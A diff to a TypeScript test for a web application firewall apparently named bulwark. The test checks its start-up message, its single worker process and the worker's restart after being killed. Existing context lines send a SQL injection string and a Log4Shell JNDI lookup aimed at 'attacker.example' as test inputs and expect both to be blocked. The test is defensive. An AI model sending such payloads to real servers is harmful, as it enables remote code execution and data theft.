@@ -143,11 +143,16 @@ describe.skipIf(!existsSync(CRS))('bulwark waf on the CRS', () => {
     const port = (probe.address() as AddressInfo).port;
     await new Promise<void>((r) => probe.close(() => r()));
     const child = spawn(process.execPath, [CLI, 'waf', '--listen', `127.0.0.1:${port}`, '--upstream', `http://127.0.0.1:${upstreamPort}`, '--rules', CRS], { stdio: ['ignore', 'ignore', 'pipe'] });
+    let stderr = '';
+    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
     try {
-      await new Promise<void>((resolveReady, reject) => {
-        child.stderr.on('data', (d: Buffer) => (d.toString().includes('listening on') ? resolveReady() : undefined));
-        child.on('exit', (code) => reject(new Error(`waf exited ${String(code)}`)));
-      });
+      await ready(child);
+      // The start-up line is the README's, and even the default run is one supervised worker with the workers' GC setting.
+      const readmeLine = /^bulwark waf: .* -> http:\/\/127\.0\.0\.1:3000$/m.exec(readFileSync(resolve(import.meta.dirname, '../README.md'), 'utf8'))?.[0];
+      expect(stderr.trim()).toBe(readmeLine?.replace('127.0.0.1:8080', `127.0.0.1:${port}`).replace('127.0.0.1:3000', `127.0.0.1:${upstreamPort}`));
+      const workers = spawnSync('pgrep', ['-P', String(child.pid)], { encoding: 'utf8' }).stdout.trim().split('\n').filter(Boolean).map(Number);
+      expect(workers).toHaveLength(1);
+      expect(readFileSync(`/proc/${String(workers[0])}/cmdline`, 'latin1').split('\0')).toContain('--max-semi-space-size=32');
       const get = (path: string, headers: Record<string, string> = {}): Promise<{ status: number; body: string }> =>
         new Promise((ok, fail) => {
           request({ host: '127.0.0.1', port, path, headers: { host: 'shop.example', 'user-agent': 'Mozilla/5.0', accept: 'text/html', ...headers } }, (res) => {
@@ -161,6 +166,14 @@ describe.skipIf(!existsSync(CRS))('bulwark waf on the CRS', () => {
       expect(await get('/products?id=42&sort=price')).toEqual({ status: 200, body: 'upstream saw /products?id=42&sort=price' });
       expect((await get("/products?id=1'%20or%20'1'='1")).status).toBe(403);
       expect((await get('/', { 'x-api-version': '${jndi:ldap://attacker.example/a}' })).status).toBe(403);
+      // The one worker is replaced when it dies, and the WAF serves again.
+      process.kill(workers[0] as number, 'SIGKILL');
+      for (let i = 0; i < 100 && !stderr.includes('starting another'); i++) await new Promise((r) => setTimeout(r, 100));
+      expect(stderr).toContain(`worker ${String(workers[0])} exited (SIGKILL); starting another`);
+      // With no worker left the listener closes until the new one has loaded the rules.
+      let after: { status: number; body: string } | undefined;
+      for (let i = 0; i < 150 && !after; i++) after = await get('/products?id=7').catch(() => new Promise<undefined>((r) => setTimeout(() => r(undefined), 100)));
+      expect(after).toEqual({ status: 200, body: 'upstream saw /products?id=7' });
     } finally {
       child.kill('SIGTERM');
       upstream.close();
